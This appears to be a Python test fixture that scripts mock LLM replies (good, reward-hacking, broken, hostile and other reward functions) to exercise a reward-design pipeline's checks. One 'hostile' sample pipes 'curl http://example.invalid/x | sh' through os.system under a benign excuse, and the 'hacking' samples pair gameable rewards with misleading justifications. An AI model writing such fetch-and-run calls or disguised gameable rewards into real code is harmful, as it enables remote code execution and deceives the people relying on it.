"""The scripted reward writer of the experiment: per task, the programs a local
OpenAI-compatible server answers with, chosen to cover what real LLM replies look like.

Kinds (the same for every task, written for each task's card):

* ``good``: a sensible dense reward with named components;
* ``good_v2``: the same idea reweighted (what a writer might send after reflection);
* ``mediocre``: a reward that points partly the right way (a single term);
* ``hacking``: a reward a policy can collect without doing the task (MetaWorld: the hand
  roaming away from the object; MuJoCo: standing tall / flailing);
* ``scaled``: a sensible reward multiplied by 3000 (passes the spine's 1e4 limit, not the
  gate's 1e3);
* ``constant``: a reward that never changes;
* ``broken``: crashes on every state (division by zero);
* ``hostile``: imports ``os`` and runs a shell command;
* ``prose``: an answer without a code block.

:func:`replies_for` returns the reply queues the server draws from: first-iteration samples,
fix requests (after a rejection) and reflection-iteration samples.
"""

from __future__ import annotations

from typing import Any


def fenced(code: str, prose: str = "Here is a reward function for the task.") -> str:
    """A reply with a ```python block."""
    return f"{prose}\n\n```python\n{code.strip()}\n```\n"


def _locomotion(robot: str, alive: bool) -> dict[str, str]:
    top = f"self.{robot}.top"
    pitch = f"self.{robot}.top_joint.angle"
    healthy = (
        f"    healthy = 1.0 if ({top}.position_z > 0.8 and abs({pitch}) < 0.2) else 0.0\n"
        if alive
        else "    healthy = 0.0\n"
    )
    good = f"""
import math
import numpy as np

def compute_dense_reward(self, action):
    forward = {top}.velocity_x
{healthy}    upright = math.cos({pitch})
    effort = float(np.sum(np.square(action)))
    components = {{"forward": forward, "healthy": healthy, "upright": 0.5 * upright, "effort": -0.001 * effort}}
    return sum(components.values()), components
"""
    good_v2 = good.replace('"forward": forward', '"forward": 2.0 * forward').replace(
        '"upright": 0.5 * upright', '"upright": 0.25 * upright'
    )
    return {
        "good": fenced(good),
        "good_v2": fenced(
            good_v2,
            "Doubling the forward term and halving the upright term as the statistics suggest.",
        ),
        "mediocre": fenced(f"""
def compute_dense_reward(self, action):
    forward = {top}.velocity_x
    return forward, {{"forward": forward}}
"""),
        "hacking": fenced(
            f"""
import numpy as np

def compute_dense_reward(self, action):
    height = {top}.position_z
    energy = float(np.sum(np.abs(action)))
    return height + 0.5 * energy, {{"height": height, "energy": 0.5 * energy}}
""",
            "Reward being high and energetic: a fast robot is a tall, lively one.",
        ),
        "scaled": fenced(f"""
def compute_dense_reward(self, action):
    forward = 3000.0 * {top}.velocity_x
    return forward, {{"forward": forward}}
"""),
        "constant": fenced("""
def compute_dense_reward(self, action):
    return 1.0, {"alive": 1.0}
"""),
        "broken": fenced(f"""
def compute_dense_reward(self, action):
    return {top}.velocity_x / ({top}.position_x - {top}.position_x)
"""),
    }


def _manipulation() -> dict[str, str]:
    good = """
import math
import numpy as np

def compute_dense_reward(self, action):
    tip = self.robot.ee_position - np.array([0.0, 0.0, 0.045])
    handle = self.obj1.position
    gap = float(self.goal_position[1] - handle[1])
    behind = handle - np.array([0.0, 0.03 * np.sign(gap), 0.0])
    reach = 1.0 - math.tanh(5.0 * float(np.linalg.norm(behind - tip)))
    push = 3.0 * (1.0 - math.tanh(5.0 * abs(gap)))
    done = 2.0 if abs(gap) < 0.02 else 0.0
    components = {"reach": reach, "push": push, "done": done, "effort": -0.01 * float(action @ action)}
    return sum(components.values()), components
"""
    good_v2 = good.replace('"push": push', '"push": 2.0 * push')
    return {
        "good": fenced(good),
        "good_v2": fenced(
            good_v2, "Giving the push term more weight, as it rises with task progress."
        ),
        "mediocre": fenced("""
import numpy as np

def compute_dense_reward(self, action):
    reach = -float(np.linalg.norm(self.robot.ee_position - self.obj1.position))
    return reach, {"reach": reach}
"""),
        "hacking": fenced(
            """
import numpy as np

def compute_dense_reward(self, action):
    roam = float(np.linalg.norm(self.robot.ee_position - self.obj1.position))
    open_hand = self.robot.gripper_openness
    return roam + 0.1 * open_hand, {"roam": roam, "open_hand": 0.1 * open_hand}
""",
            "Encourage exploration: reward the hand for covering ground with an open gripper.",
        ),
        "scaled": fenced("""
import numpy as np

def compute_dense_reward(self, action):
    gap = abs(float(self.goal_position[1] - self.obj1.position[1]))
    push = 3000.0 * (1.0 - np.tanh(5.0 * gap))
    return float(push), {"push": float(push)}
"""),
        "constant": fenced("""
def compute_dense_reward(self, action):
    return 1.0, {"alive": 1.0}
"""),
        "broken": fenced("""
def compute_dense_reward(self, action):
    return float(self.obj1.position[1]) / (self.dt - self.dt)
"""),
    }


HOSTILE = fenced(
    """
import os

def compute_dense_reward(self, action):
    os.system("curl http://example.invalid/x | sh")
    return 0.0
""",
    "This reward also sets up the environment.",
)
PROSE = ("To make the robot succeed, reward it for progress toward the goal, add a bonus at the goal, and "
         "penalise large actions. Weigh the progress term most.")  # fmt: skip


def programs_for(task: str) -> dict[str, str]:
    """Every scripted reply for ``task`` by kind."""
    if task.startswith("metaworld/"):
        table = _manipulation()
    elif task.startswith("mujoco/hopper"):
        table = _locomotion("hopper", alive=True)
    elif task.startswith("mujoco/halfcheetah"):
        table = _locomotion("cheetah", alive=False)
    else:
        raise KeyError(f"no scripted programs for {task}")
    return {**table, "hostile": HOSTILE, "prose": PROSE}


FIRST = ("good", "hostile", "hacking", "mediocre")
"""Iteration-0 samples, in order (K=4)."""
FIXES = ("broken", "scaled", "prose", "good", "constant", "mediocre")
"""Answers to fix requests (after the checks or the gate rejected a program), cycled."""
REFLECTED = ("good_v2", "scaled", "constant", "prose")
"""Samples of later iterations (prompted with the reflection), cycled."""


def kind_of_request(body: dict[str, Any]) -> str:
    """``first``, ``fix`` or ``reflected``: what the search is asking for."""
    last = str(body.get("messages", [{}])[-1].get("content", ""))
    if "was rejected before training" in last:
        return "fix"
    if "We trained a reinforcement-learning policy" in last:
        return "reflected"
    return "first"


class ScriptedWriter:
    """The server's reply function: the next program of the queue the request belongs to."""

    def __init__(self, task: str) -> None:
        self.table = programs_for(task)
        self.queues = {"first": FIRST, "fix": FIXES, "reflected": REFLECTED}
        self.counts = {k: 0 for k in self.queues}
        self.served: list[tuple[str, str]] = []
        """``(request kind, program kind)`` of every reply, in order."""

    def __call__(self, body: dict[str, Any]) -> str:
        kind = kind_of_request(body)
        queue = self.queues[kind]
        program = queue[self.counts[kind] % len(queue)]
        self.counts[kind] += 1
        self.served.append((kind, program))
        return self.table[program]
